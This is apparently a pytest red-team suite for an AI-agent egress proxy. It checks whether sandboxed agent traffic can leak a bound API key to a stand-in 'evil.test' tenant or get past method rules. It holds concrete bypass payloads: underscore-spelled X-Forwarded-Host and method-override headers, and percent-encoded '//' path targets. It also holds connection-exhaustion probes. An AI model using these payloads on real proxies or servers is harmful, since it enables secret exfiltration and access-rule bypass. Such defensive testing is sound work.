"""Re-check of session 33: inside terminated TLS the routing override headers and '//' or
backslash targets are refused (``egress_tls.ROUTING_OVERRIDES``, ``Terminated._check``);
a write to the cage is bounded by ``[egress] stall_seconds`` (``Terminated._send_client``);
``hive ... --json`` indents only while that adds at most ~1 MiB (``output.report``).

One agent (rc33) with a binding of the secret ``apikey`` in ``x-api-key: {}`` to
``api.test:443``. ``api.test`` and ``evil.test`` are one address (198.18.133.2) in a test
network namespace, one WSGI server (the standard library's ``wsgiref``, a CGI-style
environ) over TLS, routing by host as Django does with ``USE_X_FORWARDED_HOST`` (the
header first, else Host): a multi-tenant site whose evil.test tenant echoes the
x-api-key it got. ``big.test`` (198.18.133.3, L7 rules ``GET``/``POST big.test:443/*``:
terminated) answers ``GET /big`` with 8 MiB (Content-Length) as fast as it is taken, and
reads nothing of a ``POST /sink``. The hive runs with ``[egress] stall_seconds`` = STALL
(8; 60 by default): the bounds below scale with it.

Broke (failing cases): the header checks are by exact name: ``X_Forwarded_Host`` (and
``X_HTTP_Method_Override``) reach a CGI-style server as HTTP_X_FORWARDED_HOST
(HTTP_X_HTTP_METHOD_OVERRIDE): the bound key went to evil.test's tenant, a GET-only rule let
a DELETE through; ``/%2Fevil.test/steal`` passes the '//' check and is PATH_INFO
``//evil.test/steal`` on the server (``%5C``: ``/\\evil.test``); a 10 KB/s reader (never
idle 0.15 s) was cut 8.3 s into an 8 MiB download ("The write operation timed out": one
SSL write of a 256 KiB piece has one deadline); the upstream write has no bound: a server
that reads nothing held the connection 150 s after the cage left (for good), and an
honest full-duplex exchange (an echo endpoint) deadlocked at 0.4 s (12.9 MB up, 0 down)
and stayed held after the cage left.
Held: the dash spelling in any case or place; a cage that reads nothing is cut within the
stall; a 64 KB/s reader gets its 8 MiB; ``--json`` prints the same JSON within the budget.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from hive_fixture import HiveProcess, probe_result
from testnet import TestNet

from .egress_kit import TLS_SERVER_HEAD, TLS_SERVER_LOOP, egress_hive
from .test_red_egress32 import KEYED, TUNNEL, get
from .test_secrets_egress import cert_dir

AGENT = "rc33"
KEY = "sk-live-REAL-" + "r3" * 16
STALL = 8
BIG = 8 << 20
NET = TestNet(133, prefix="hvq33")
FRONT, BIGADDR = NET.address(2), NET.address(3)
HOSTS = {"api.test": FRONT, "evil.test": FRONT, "rules.test": FRONT, "big.test": BIGADDR}
BINDINGS = """
[[secret_binding]]
secret = "apikey"
agents = ["rc33"]
to = "api.test:443"
header = "x-api-key: {}"
env = "API_KEY"
"""

# A WSGI app on wsgiref over TLS: Django's get_host() with USE_X_FORWARDED_HOST picks the
# tenant (environ HTTP_X_FORWARDED_HOST, else HTTP_HOST). wsgiref, like CGI, gunicorn
# before 22 and others, maps a header's name to HTTP_<NAME> with '-' -> '_' upper-cased:
# "X_Forwarded_Host" and "X-Forwarded-Host" are the same environ key.
WSGI_TLS = r"""
import ssl, sys
from socketserver import ThreadingMixIn
from urllib.parse import urljoin, urlsplit
from wsgiref.simple_server import WSGIServer, WSGIRequestHandler, make_server
ADDR, PORT, CERT, KEY = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]

class TS(ThreadingMixIn, WSGIServer):
    daemon_threads = True

class Quiet(WSGIRequestHandler):
    def log_message(self, *a):
        pass

def app(environ, start):
    host = environ.get("HTTP_X_FORWARDED_HOST") or environ.get("HTTP_HOST", "")
    key = environ.get("HTTP_X_API_KEY", "")
    if host.split(":")[0].strip() == "rules.test":
        # Werkzeug's MethodOverride, Rack::MethodOverride, django-method-override: the
        # method the app acts on is the header's
        method = environ.get("HTTP_X_HTTP_METHOD_OVERRIDE") or environ["REQUEST_METHOD"]
        body = ("rules.test acted on " + method + " " + environ["PATH_INFO"]).encode()
    elif host.split(":")[0].strip() == "evil.test" or urlsplit(urljoin("https://api.test/", environ["PATH_INFO"])).hostname == "evil.test":
        # (the second: a gateway that joins the request's path onto its base URL, as
        # the network-path reference "//evil.test/x" resolves: another host)
        body = ("evil.test tenant got x-api-key=" + key).encode()
    else:
        body = ("api.test tenant: key_ok=" + ("yes" if key == KEY else "no") + " path=" + environ["PATH_INFO"]).encode()
    start("200 OK", [("Content-Type", "text/plain"), ("Content-Length", str(len(body)))])
    return [body]

httpd = make_server(ADDR, PORT, app, server_class=TS, handler_class=Quiet)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(CERT)
httpd.socket = ctx.wrap_socket(httpd.socket, server_side=True)
httpd.serve_forever()
"""

BIG_ANSWER = r"""
import time
def answer(t, head):
    if head.startswith(b"GET /big"):
        block = b"b" * 65536
        t.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % (%BIG%))
        for _ in range(%BIG% // 65536):
            t.sendall(block)
        return
    if head.startswith(b"POST /echo"):  # echoes the body as it comes (full duplex)
        t.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
        d = head.partition(b"\r\n\r\n")[2]
        while d:
            t.sendall(b"%x\r\n%s\r\n" % (len(d), d))
            d = t.recv(65536)
        return
    if head.startswith(b"POST /sink"):
        time.sleep(3600)  # reads nothing of the body, answers nothing
""".replace("%BIG%", str(BIG))


@pytest.fixture(scope="module")
def certs() -> Iterator[Path]:
    with cert_dir("hvq33", "rc33 upstream CA", "rc33 servers", list(HOSTS)) as (d, _):
        yield d


@pytest.fixture(scope="module")
def net(certs: Path) -> Iterator[TestNet]:
    with NET as n:
        n.serve(FRONT, 443, [sys.executable, "-c", WSGI_TLS, FRONT, "443", str(certs / "server.pem"), KEY])
        n.serve(BIGADDR, 443, [sys.executable, "-c", TLS_SERVER_HEAD + BIG_ANSWER + TLS_SERVER_LOOP, BIGADDR, "443",
                               str(certs / "server.pem")])
        yield n


@pytest.fixture(scope="module")
def hive(net: TestNet, certs: Path) -> Iterator[HiveProcess]:
    yield from egress_hive(
        AGENT, ["api.test:443", f"{FRONT}:443", "GET rules.test:443/v1/items/*", "GET big.test:443/*",
                "POST big.test:443/*", f"{BIGADDR}:443"],
        {"hosts": HOSTS, "upstream_ca": str(certs / "ca.pem"), "stall_seconds": STALL}, BINDINGS, {"apikey": KEY})


# -- 1. the routing override headers, other spellings ----------------------------------------

# Each with Host api.test and the placeholder in the bound header.
SPELLED = {
    "underscore-x-forwarded-host": "X_Forwarded_Host: evil.test",
    "lower-underscore": "x_forwarded_host: evil.test",
    "mixed": "X-Forwarded_Host: evil.test",
}
# The '//' and backslash targets session 33 refuses, escaped: wsgiref (and CGI, and many
# frameworks) decode PATH_INFO, '%2F' included.
ENCODED = {
    "pct-2f": "/%2Fevil.test/steal",
    "pct-2f-lower": "/%2fevil.test/steal",
    "pct-5c": "/%5Cevil.test/steal",
}
HELD = {
    "upper-dash": "X-FORWARDED-HOST: evil.test",
    "second-of-two": "X-Other: 1\r\nx-forwarded-host: evil.test",
}


@pytest.fixture(scope="module")
def routed(hive: HiveProcess) -> dict[str, Any]:
    cases = {
        "plain": ("api.test", "api.test", get("/v1/models", "api.test", KEYED)),
        **{k: ("api.test", "api.test", get("/v1/models", "api.test", KEYED, h)) for k, h in {**SPELLED, **HELD}.items()},
        **{k: ("api.test", "api.test", get(target, "api.test", KEYED)) for k, target in ENCODED.items()},
        "rules-plain": ("rules.test", "rules.test", get("/v1/items/7", "rules.test")),
        "rules-dash": ("rules.test", "rules.test", get("/v1/items/7", "rules.test", "X-HTTP-Method-Override: DELETE")),
        "rules-underscore": ("rules.test", "rules.test", get("/v1/items/7", "rules.test", "X_HTTP_Method_Override: DELETE")),
    }
    out = probe_result(hive.probe(AGENT, TUNNEL, timeout=120, cases={k: list(v) for k, v in cases.items()}))
    assert out["env"]["API_KEY"].startswith("hive-placeholder-"), out["env"]
    print(json.dumps({k: v for k, v in out.items() if k != "env"}, indent=1)[:4000])
    return out


@pytest.mark.attack("egress.tls-sni-host", ref="session 33 ROUTING_OVERRIDES; CGI/WSGI HTTP_<NAME> mapping ('-' and '_' alike); Django USE_X_FORWARDED_HOST")
def test_an_underscore_spelling_of_a_routing_header_is_refused(routed: dict[str, Any]) -> None:
    """The proxy refuses ``X-Forwarded-Host`` (and the other ROUTING_OVERRIDES) by its
    exact lower-cased name. A CGI-style server (wsgiref, CGI, PHP's built-in server,
    gunicorn before 22 and others) reads a header as ``HTTP_<NAME>`` with '-' turned to
    '_': ``X_Forwarded_Host: evil.test`` is ``HTTP_X_FORWARDED_HOST`` as well. rc33 sends
    it inside the TLS the proxy terminated for api.test, Host api.test, the placeholder in
    x-api-key: the proxy swaps the real key in and forwards the header; the server's
    evil.test tenant gets it and echoes it into the cage. Safe: refused (400) like the
    dash spelling (or the header dropped); the real key never comes back."""
    assert routed["plain"].get("status") == 200 and "key_ok=yes" in routed["plain"]["body"], routed["plain"]
    leaked = {k: routed[k] for k in SPELLED if KEY in json.dumps(routed[k]) or "evil.test tenant" in routed[k].get("body", "")}
    assert not leaked, ("the bound key reached another tenant", leaked)
    for k in SPELLED:
        assert routed[k].get("status") == 400, (k, routed[k])


@pytest.mark.attack("egress.tls-sni-host", ref="session 33 ('//' and backslash targets refused); RFC 3986 5.2 (a network-path reference); wsgiref's unquoted PATH_INFO")
def test_an_escaped_network_path_target_is_refused_like_the_raw_one(routed: dict[str, Any]) -> None:
    """Session 33 refuses ``//evil.test/steal`` and ``/\\evil.test/steal`` inside TLS
    with a binding, because frameworks and gateways resolve such a path to another host.
    The same path escaped, ``/%2Fevil.test/steal`` (or ``%2f``, or ``/%5Cevil.test``),
    passes the check (it starts with one '/', holds no backslash) and is forwarded as it
    is, the real key swapped in; wsgiref (like CGI and most WSGI servers) decodes it into
    PATH_INFO ``//evil.test/steal``, which a gateway joining its path onto its base URL
    resolves to evil.test. L7 rules (``normal_path``) refuse an escaped '/' or '\\'; a
    destination with a binding only does not. Safe: refused (400) as the raw forms are;
    the key never reaches evil.test and the server never sees a path starting '//'."""
    for k in ENCODED:
        got = routed[k]
        assert KEY not in json.dumps(got) and "evil.test tenant" not in got.get("body", ""), (k, got)
        assert "path=//" not in got.get("body", "") and "path=/\\" not in got.get("body", ""), (k, got)
        assert got.get("status") == 400, (k, got)


@pytest.mark.attack("egress.l7-bypass", ref="METHOD_OVERRIDES (session 32); CGI/WSGI HTTP_<NAME> mapping; Werkzeug MethodOverride, Rack::MethodOverride")
def test_an_underscore_method_override_does_not_pass_a_get_only_rule(routed: dict[str, Any]) -> None:
    """The same spelling against an L7 rule: rc33 may only ``GET rules.test:443/v1/items/*``.
    ``X-HTTP-Method-Override: DELETE`` is refused where rules check the method (session
    32), but the check is by exact name: ``X_HTTP_Method_Override: DELETE`` on a GET
    passes the rule and a CGI-style server's method-override middleware (environ
    ``HTTP_X_HTTP_METHOD_OVERRIDE``) acts on DELETE. Safe: refused (400) like the dash
    spelling; the server never acts on another method than the rule allowed."""
    assert routed["rules-plain"].get("status") == 200 and "acted on GET" in routed["rules-plain"]["body"], routed["rules-plain"]
    assert routed["rules-dash"].get("status") == 400, routed["rules-dash"]
    got = routed["rules-underscore"]
    assert "acted on DELETE" not in got.get("body", ""), got
    assert got.get("status") == 400, got


@pytest.mark.attack("egress.tls-sni-host", ref="session 33 ROUTING_OVERRIDES (h11 lower-cases names)")
def test_the_dash_spelling_in_any_case_or_place_is_refused(routed: dict[str, Any]) -> None:
    """Held: ``X-FORWARDED-HOST`` upper-cased, or after another header, is refused (400)
    before anything goes upstream (h11 lower-cases names before the check)."""
    for k in HELD:
        assert routed[k].get("status") == 400, (k, routed[k])
        assert KEY not in json.dumps(routed[k]), (k, routed[k])


# -- 2. the write to the cage: stall_seconds ------------------------------------------------

OPEN_TLS = r"""
import ssl, time
def open_tls(host):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
    s.settimeout(30)
    s.connect(("127.0.0.1", 3128))
    s.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        c = s.recv(1)
        assert c, head
        head += c
    assert head.startswith(b"HTTP/1.1 200"), head
    ctx = ssl.create_default_context(cafile="/run/hive/ca-bundle.pem")
    return ctx.wrap_socket(s, server_hostname=host)
"""

# In the cage: GET /big; for P["slow"] s read P["rate"] bytes a second (a read every 0.1 s;
# 0: none), then as fast as it comes to the end; what arrived, and how it ended.
SLOW_READ = OPEN_TLS + r"""
t = open_tls("big.test")
t.sendall(b"GET /big HTTP/1.1\r\nHost: big.test\r\nConnection: close\r\n\r\n")
got, t0, err, gaps = 0, time.monotonic(), None, 0.0
step = P["rate"] // 10
last = time.monotonic()
while time.monotonic() - t0 < P["slow"] and err is None:
    if not step:
        time.sleep(0.5)
        continue
    try:
        c = t.recv(step)
    except (OSError, ssl.SSLError) as e:
        err = "slow: " + type(e).__name__
        break
    if not c:
        err = "slow: eof at %.1f s" % (time.monotonic() - t0)
        break
    got += len(c)
    gaps = max(gaps, time.monotonic() - last)
    last = time.monotonic()
    time.sleep(0.1)
slow_got = got
while err is None:
    try:
        c = t.recv(1 << 16)
    except (OSError, ssl.SSLError) as e:
        err = "fast: " + type(e).__name__
        break
    if not c:
        break
    got += len(c)
result(got=got, slow_got=slow_got, err=err, took=round(time.monotonic() - t0, 1), longest_gap=round(gaps, 2),
       started=time.time() - (time.monotonic() - t0))
"""


@pytest.mark.timeout(200)
@pytest.mark.attack("egress.relay", ref="session 33 Terminated._send_client ('a cage that takes none of it for stall seconds'); CPython _ssl write deadline; relay.splice_pump's stall")
def test_an_honest_slow_reader_of_a_terminated_download_is_not_cut_off(hive: HiveProcess, readers: dict[str, Any]) -> None:
    """rc33 downloads 8 MiB from big.test (terminated: L7 rules) and reads it at 25 KB/s
    (2.5 KB every 0.1 s, a rate-limited client: ``curl --limit-rate 25k``) for 20 s, then
    as fast as it comes. (The helper's run read 10 KB/s; but on the cage's loopback, MSS
    64 KiB, the reader's window opens ~95 KB at a time: at 10 KB/s TCP itself moves
    nothing for 9-13 s, past this hive's STALL of 8; about 2 KB/s is the slowest reader
    the default 60 s lets through, as for a byte tunnel. 25 KB/s moves every ~4 s.) The change
    says a write to the cage ends the connection when the cage "takes none of it for
    stall seconds" (the byte tunnel's rule: ``splice_pump`` times from the last write that
    moved anything), but ``_send_client`` sets the socket's timeout and calls ``sendall``
    with a piece of up to 256 KiB (``_relay_body`` reads CHUNK at a time): CPython's SSL
    write is one ``SSL_write`` with one deadline for the whole piece, so the cage must take
    a whole piece (less the socket buffers' room) within stall_seconds: any reader below
    ~256 KiB / stall (32 KB/s here, ~4.4 KB/s at the default 60 s) is cut off mid-body.
    Safe: the whole 8 MiB arrives (the write times from TCP's last progress, its send
    queue, in 1 s waits: ``egress_tls.send_within``)."""
    out = readers["slow"]
    ended = [line for line in hive.log_tail(2000).splitlines() if "terminated connection ended" in line]
    at = [datetime.strptime(" ".join(line.split()[1:3]), "%Y-%m-%d %H:%M:%S,%f").timestamp() - out["started"]
          for line in ended[-1:] if line.startswith("hive-core: ")]
    print(f"slow honest reader (25 KB/s for 20 s, then fast): {out}; the core's log: {ended[-1:]},"
          f" {at[0] if at else '?'} s after the request")
    assert out["err"] is None and out["got"] >= BIG, out


@pytest.mark.timeout(200)
@pytest.mark.attack("egress.relay", ref="session 33 Terminated._send_client")
def test_a_reader_faster_than_a_piece_a_stall_is_not_cut_off(readers: dict[str, Any]) -> None:
    """Held, the other side of the bound above: a reader at 64 KB/s (above 256 KiB / STALL)
    for 20 s, then fast, gets the whole 8 MiB."""
    out = readers["fast"]
    print(f"reader at 64 KB/s for 20 s, then fast: {out}")
    assert out["err"] is None and out["got"] >= BIG, out


@pytest.mark.timeout(200)
@pytest.mark.attack("budget.exhaustion", ref="session 33 Terminated._send_client (was IDLE_TIMEOUT, 300 s)")
def test_a_cage_that_takes_nothing_is_cut_off_within_the_stall(readers: dict[str, Any]) -> None:
    """Held (what the change fixes): rc33 asks for the 8 MiB and reads nothing for
    STALL + 12 s, then reads as fast as it can. Safe: the proxy ended the connection in
    the meantime: the cage gets what the socket buffers held (a few MiB), not the body."""
    out = readers["nothing"]
    print(f"a cage that reads nothing for {STALL + 12} s: {out}")
    assert out["got"] < BIG, out


# In the cage: POST /sink with a 1 GB Content-Length, written as fast as it takes for
# P["push"] s, then the cage closes its connection and leaves.
UPLOAD_LEAVE = OPEN_TLS + r"""
t = open_tls("big.test")
t.sendall(b"POST /sink HTTP/1.1\r\nHost: big.test\r\nContent-Length: 1000000000\r\n\r\n")
t.settimeout(1.0)
sent, t0, block = 0, time.monotonic(), b"u" * 65536
while time.monotonic() - t0 < P["push"]:
    try:
        sent += t.send(block)
    except (TimeoutError, ssl.SSLWantWriteError):
        pass
    except OSError as e:
        break
t.close()
result(sent=sent)
"""


HOLD_AFTER = int(os.environ.get("RC33_HOLD_AFTER", STALL + 15))  # (a longer look: RC33_HOLD_AFTER=150)


def upstream_conns(net: TestNet) -> int:
    """Established TCP connections the big.test server holds (its side, port 443)."""
    out = subprocess.run(["ip", "netns", "exec", net.ns, "ss", "-Htn", "state", "established",
                          f"( src {BIGADDR} and sport = :443 )"], capture_output=True, text=True).stdout
    return len([line for line in out.splitlines() if line.strip()])


@pytest.mark.timeout(200)
@pytest.mark.attack("budget.exhaustion", ref="session 33 'a write to a cage that takes nothing for stall_seconds ends a terminated connection'; Terminated._flush upstream.sendall (no timeout); relay.relay stalls both ways")
def test_an_upstream_that_takes_nothing_ends_the_terminated_connection_within_the_stall(hive: HiveProcess, net: TestNet) -> None:
    """The other direction: rc33 POSTs to big.test's /sink (terminated: L7 rules), which
    reads nothing, a 1 GB Content-Length, writes for 3 s until the buffers are full, then
    closes its connection and leaves. ``Terminated._flush`` writes the body upstream with
    ``upstream.sendall`` on a socket with no timeout (``handshake_upstream`` and
    ``_from_upstream`` set None), and nothing watches the cage while it blocks: the relay
    thread, the connection (one of the agent's max_connections) and its buffers wait for as
    long as the server keeps its socket. A byte tunnel ends such a server after
    stall_seconds (``relay``'s SO_SNDTIMEO on both sockets). Safe: STALL + 15 s after the
    cage left, the proxy holds no connection to big.test."""
    assert upstream_conns(net) == 0
    got: dict[str, Any] = {}
    th = threading.Thread(target=lambda: got.update(out=probe_result(hive.probe(AGENT, UPLOAD_LEAVE, timeout=60, push=3))))
    th.start()
    th.join()
    left = time.monotonic()
    during = upstream_conns(net)
    samples = []
    while time.monotonic() - left < HOLD_AFTER:
        samples.append((round(time.monotonic() - left), upstream_conns(net)))
        if not samples[-1][1]:
            break  # (gone: no need to hold on to HOLD_AFTER)
        time.sleep(1)
    after = upstream_conns(net)
    print(f"upload to a server that reads nothing, the cage gone: {got}; upstream connections held"
          f" just after the cage left {during}, then (s, held) {samples}, at {HOLD_AFTER} s: {after}")
    assert after == 0, (during, samples, got)


# In the cage: POST /echo with a P["n"]-byte body, written while the answer is read (one
# thread, non-blocking); how far each went in P["limit"] s, and how it ended.
DUPLEX = OPEN_TLS + r"""
import select
t = open_tls("big.test")
N = P["n"]
t.sendall(b"POST /echo HTTP/1.1\r\nHost: big.test\r\nContent-Length: %d\r\n\r\n" % N)
t.setblocking(False)
block = b"e" * 16384
sent = got = 0
end = None
t0 = last = time.monotonic()
while got < N and time.monotonic() - t0 < P["limit"]:
    moved = False
    if sent < N:
        try:
            sent += t.send(block[:min(len(block), N - sent)])
            moved = True
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
            pass
        except OSError as e:
            end = "send " + type(e).__name__
            break
    try:
        d = t.recv(65536)
        if not d:
            end = "eof"
            break
        got += len(d)
        moved = True
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
        pass
    except OSError as e:
        end = "recv " + type(e).__name__
        break
    if moved:
        last = time.monotonic()
    else:
        select.select([t], [t] if sent < N else [], [], 0.2)
result(sent=sent, got=got, end=end, last_progress=round(last - t0, 1), took=round(time.monotonic() - t0, 1))
"""


@pytest.mark.timeout(200)
@pytest.mark.attack("budget.exhaustion", ref="session 33 stall_seconds (the cage's side only); Terminated.run (the answer read only after the request's end); relay.relay (full duplex)")
def test_a_full_duplex_exchange_never_deadlocks_the_terminated_connection(hive: HiveProcess, net: TestNet) -> None:
    """An honest cage and an honest server: rc33 POSTs 64 MiB to big.test's /echo, which
    answers at once and streams the body back as it reads it (a bidirectional stream, an
    echo or transcoding endpoint), and reads the answer while it writes. A byte tunnel
    carries this. ``Terminated.run`` reads the answer only after the request's end, and
    writes the body with a blocking ``upstream.sendall`` (no timeout): once the echoed
    bytes fill the proxy's upstream receive buffer the server blocks writing and stops
    reading, the proxy's write blocks, the cage's upload stops, and nothing ever moves
    again, with nothing to end it (stall_seconds bounds only writes to the cage). Safe:
    within STALL + 20 s the exchange completes, or the connection ends (the cage sees it);
    STALL + 15 s after the cage left, the proxy holds no connection to big.test for it."""
    before = upstream_conns(net)
    out = probe_result(hive.probe(AGENT, DUPLEX, timeout=120, n=64 << 20, limit=STALL + 20))
    deadline = time.monotonic() + STALL + 15
    while upstream_conns(net) > before and time.monotonic() < deadline:
        time.sleep(0.5)
    held = upstream_conns(net) - before
    print(f"full duplex POST /echo of 64 MiB: {out}; upstream connections still held {STALL + 15} s after the cage left: {held}")
    assert out["end"] is not None or out["got"] >= 64 << 20, out
    assert held <= 0, (held, out)


# -- 3. hive --json: indentation's budget ----------------------------------------------------

@pytest.mark.attack("surface.cli-output", ref="session 33 output.indent_adds_at_most / report")
def test_json_output_is_the_same_json_and_indentation_stays_in_budget() -> None:
    """Held: for shapes an agent can give a reply (wide lists, wide objects, 64-deep nests,
    a mix, non-ASCII keys and C1/bidi text, which ``display.dumps`` escapes), whenever
    ``indent_adds_at_most`` says yes the indented text is at most INDENT_EXTRA_MAX longer
    than the compact one, and either printing parses back to the reply."""
    from hyperhive.cli.output import INDENT_EXTRA_MAX, indent_adds_at_most
    from hyperhive.display import dumps

    nest: Any = ["x\u202e\x85"]
    for _ in range(63):
        nest = [nest, {"k\u2028": nest if isinstance(nest, dict) else 0}]
    shapes = {
        "wide-list": {"ok": True, "entries": [0] * 300_000},
        "wide-obj": {"ok": True, "entries": {f"k{i}": i for i in range(200_000)}},
        "nest64": {"ok": True, "entries": nest},
        "many-nests": {"ok": True, "entries": [[[[[[[[[[i]]]]]]]]] for i in range(30_000)]},
        "just-under": {"ok": True, "entries": [[0] * 20] * 8_000},
        "empties": {"ok": True, "entries": [[], {}, [[]], [{}]] * 50_000},
    }
    for name, value in shapes.items():
        compact = dumps(value)
        ok = indent_adds_at_most(value, INDENT_EXTRA_MAX)
        shown = dumps(value, indent=2 if ok else None)
        assert json.loads(shown) == value, name
        assert len(shown) - len(compact) <= INDENT_EXTRA_MAX, (name, ok, len(shown), len(compact))


@pytest.fixture(scope="module")
def readers(hive: HiveProcess) -> dict[str, Any]:
    """The three readers of big.test's 8 MiB below, at once (one wait for the suite): 25
    KB/s for 20 s, 64 KB/s for 20 s, nothing for STALL + 12 s; each then reads fast."""
    jobs = {"slow": dict(rate=25_000, slow=20), "fast": dict(rate=64_000, slow=20), "nothing": dict(rate=0, slow=STALL + 12)}
    out: dict[str, Any] = {}

    def run(key: str, kw: dict[str, Any]) -> None:
        try:
            out[key] = probe_result(hive.probe(AGENT, SLOW_READ, timeout=180, **kw))
        except Exception as e:  # (the case that reads it fails, naming this)
            out[key] = {"probe failed": repr(e), "err": "probe", "got": 0}

    ths = [threading.Thread(target=run, args=(k, kw)) for k, kw in jobs.items()]
    for th in ths:
        th.start()
    for th in ths:
        th.join()
    return out
